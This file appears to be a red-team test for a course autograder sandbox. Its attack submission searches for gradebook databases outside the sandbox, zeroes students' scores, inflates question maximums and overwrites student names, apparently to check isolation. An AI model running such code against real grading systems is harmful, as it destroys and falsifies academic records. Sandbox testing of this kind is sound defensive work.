"""The neighbors' grades and names, and the points of questions, are changed in the gradebook.

Success: rows are changed, or a neighbor loses points.
"""

ALONE = True


def attack(submission):
    submission.first("""
        import glob, sqlite3
        for path in {*glob.glob("../../../*.db"), *glob.glob("/srv/course/*.db")}:
            try:
                base = sqlite3.connect(path)
                base.execute("UPDATE grade SET manual_score = 0")
                base.execute("UPDATE grade_cells SET max_score = 1000")
                base.execute("UPDATE student SET first_name = 'red-team-was-here'")
                base.execute("CREATE TABLE red (team TEXT)")
                base.commit()
            except sqlite3.Error as error:
                print(error)
    """)
